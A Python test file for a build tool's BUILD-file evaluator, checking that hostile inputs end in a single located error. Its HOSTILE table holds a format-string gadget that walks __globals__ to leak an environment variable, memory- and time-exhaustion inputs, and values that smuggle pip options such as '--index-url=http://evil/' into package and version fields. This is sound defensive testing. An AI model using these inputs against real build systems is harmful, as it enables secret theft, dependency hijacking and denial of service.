"""A BUILD file is untrusted: no way out through formatting, no option smuggled to pip, and every
budget (integers, lengths, nesting, steps) ends in one `error:` line at its file:line, quickly and
in bounded memory."""

from __future__ import annotations

import os
import resource
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import write
from npubuild.buildlang import evaluate
from npubuild.errors import UserError
from npubuild.rules.registry import package_builtins

SHA = "0" * 64
PYPI = f'pypi_file(package = "nudenet", version = "3.4.2", path = "nudenet/320n.onnx", sha256 = "{SHA}")'


def _evaluate(tmp_path: Path, source: str) -> None:
    evaluate(source, "pkg/BUILD", package_builtins("pkg", tmp_path, {}))


HOSTILE = {
    "format reaches globals": (
        f'X = "{{0.__init__.__globals__[sys].modules[os].environ[LEAKME]}}".format({PYPI})\n',
        "must be empty, a number or a name",
        1,
    ),
    "format item access": ('X = "{0[0]}".format(["a"])\n', "must be empty, a number or a name", 1),
    "format spec width": ('X = "{:999999999}".format(1)\n', "format width", 1),
    "nested format spec": ('X = "{:{}}".format(1, 5)\n', "format spec", 1),
    "percent width": ('X = "%999999999d" % 1\n', "% format width", 1),
    "percent star": ('X = "%*d" % (999999999, 1)\n', "'*' widths", 1),
    # 3 ** (2 ** 6) is the first square past 2 ** 63: line 7
    "squaring integers": ("A = 3\n" + "A = A * A\n" * 28, "integer overflow", 7),
    "join of a huge list": ('X = "".join(["x" * 100000] * 100000)\n', "value too large", 1),
    "doubling strings": ('A = "x" * 1000000\n' + "A = A + A\n" * 40, "value too large", 2),
    "many big values": ("".join(f'A{i} = "x" * 999999\n' for i in range(30)), "makes more than", 21),
    "replace blows up": ('A = "x" * 100000\nB = A.replace("x", A)\n', "value too large", 2),
    "deep sum": ("X = " + " + ".join(["1"] * 20000) + "\n", "nested", 1),
    "deep lists": ("X = 1\nY = " + "[" * 150 + "1" + "]" * 150 + "\n", "nested", 2),
    "long target name": (f'dataset(name = "{"n" * 300}", srcs = [])\n', "longer than 128", 1),
    "pip option as package": (
        'onnx_model(name = "m", src = pypi_file(package = "--index-url=http://evil/", version = "1", '
        f'path = "a.onnx", sha256 = "{SHA}"))\n',
        "PyPI project name",
        1,
    ),
    "pip option as version": (
        'onnx_model(name = "m", src = pypi_file(package = "nudenet", version = "1 --pre", '
        f'path = "a.onnx", sha256 = "{SHA}"))\n',
        "exact release",
        1,
    ),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_build_files_are_one_error_at_their_line(tmp_path, name, monkeypatch):
    monkeypatch.setenv("LEAKME", "the-secret-value")
    source, message, line = HOSTILE[name]
    started = time.monotonic()
    with pytest.raises(UserError) as caught:
        _evaluate(tmp_path, source)
    assert time.monotonic() - started < 5
    assert message in caught.value.message, caught.value.message
    assert caught.value.location is not None and caught.value.location.line == line
    assert "the-secret-value" not in str(caught.value)


def test_plain_formatting_still_works(tmp_path):
    variables = evaluate(
        'A = "{}-{name}-{0}".format("x", name = "n")\nB = "{:>5}|{:.2f}".format("ab", 3.14159)\n'
        'C = "%-4s|%03d" % ("ab", 7)\nD = "{!r}".format("q")\n',
        "BUILD",
        {},
    )
    assert variables["A"] == "x-n-x"
    assert variables["B"] == "   ab|3.14"
    assert variables["C"] == "ab  |007"
    assert variables["D"] == "'q'"


def _limit_memory() -> None:
    limit = 2 << 30
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))


@pytest.mark.parametrize(
    "name", ["join of a huge list", "squaring integers", "deep sum", "format reaches globals"]
)
def test_the_cli_prints_one_line_in_bounded_time_and_memory(tmp_path, name):
    source, message, line = HOSTILE[name]
    write(tmp_path / "WORKSPACE", "")
    write(tmp_path / "pkg" / "BUILD", source)
    env = {**os.environ, "NPUBUILD_CACHE": str(tmp_path / "cache"), "LEAKME": "the-secret-value"}
    started = time.monotonic()
    proc = subprocess.run(
        [sys.executable, "-m", "npubuild", "query", "//..."],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        preexec_fn=_limit_memory,
    )
    assert time.monotonic() - started < 10
    assert proc.returncode == 1
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1, proc.stderr
    assert lines[0].startswith(f"error: pkg/BUILD:{line}:") and message in lines[0], lines[0]
    assert "the-secret-value" not in proc.stderr + proc.stdout


def test_pip_gets_the_requirement_after_a_double_dash():
    from npubuild.stages import fetch

    source = Path(fetch.__file__).read_text()
    # The only argument built from BUILD values comes after "--", so pip reads it as a requirement.
    assert source.index('"--",') < source.index('f"{package}=={version}"')
